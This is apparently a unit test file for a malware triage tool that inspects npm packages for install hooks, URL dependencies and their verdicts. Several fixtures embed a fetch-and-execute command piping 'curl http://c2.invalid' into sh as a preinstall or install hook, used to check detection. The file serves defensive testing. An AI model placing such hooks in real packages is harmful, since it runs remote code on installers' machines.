"""What an npm package runs on install and import."""

import json

from tests.unit.triage.packages.archives import packed
from vedette.triage.behaviours import Read, judge, observed
from vedette.triage.fact import Act, When
from vedette.triage.packages import package_of
from vedette.triage.packages.package import Package


def package(manifest: dict[str, object], **files: str) -> Package:
    given = {"package/package.json": json.dumps(manifest)}
    given |= {f"package/{name.replace('_', '.')}": text for name, text in files.items()}
    found = package_of(packed(given, "x.tgz"))
    assert found is not None
    return found


def test_a_hook_runs_its_script_and_what_that_requires_on_install() -> None:
    scripts = {"scripts": {"postinstall": "node setup.js", "test": "node test.js"}}
    found = package(
        {"name": "x", **scripts}, setup_js="require('./inner')", inner_js="", test_js="", index_js=""
    )
    assert found.runs == {
        "x.tgz!/package/setup.js": When.INSTALL,
        "x.tgz!/package/inner.js": When.INSTALL,
        "x.tgz!/package/index.js": When.IMPORT,
    }


def test_only_hooks_npm_runs_on_install_are_commands() -> None:
    found = package({"name": "x", "scripts": {"preinstall": "curl http://c2.invalid | sh", "build": "tsc"}})
    (facts,) = found.facts.values()
    assert [(fact.act, fact.how, fact.when) for fact in facts] == [
        (Act.RUNS_COMMAND, "preinstall", When.INSTALL)
    ]


def test_a_dependency_on_an_address_is_told_and_one_on_a_version_is_not() -> None:
    found = package({"name": "x", "dependencies": {"a": "http://c2.invalid/a.tgz", "b": "^1.0.0"}})
    (facts,) = found.facts.values()
    assert [fact.target for fact in facts] == ["http://c2.invalid/a.tgz"]


def test_a_manifest_that_is_none_is_no_package() -> None:
    assert package_of(packed({"package/package.json": "[" * 5000}, "x.tgz")) is None


def test_a_hook_that_downloads_and_runs_is_malicious() -> None:
    samples = packed(
        {"package/package.json": json.dumps({"scripts": {"install": "curl http://c2.invalid/a | sh"}})},
        "x.tgz",
    )
    seen = observed([Read(one, ()) for one in samples], package_of(samples))
    assert judge(samples[0], seen).verdict == "malicious"
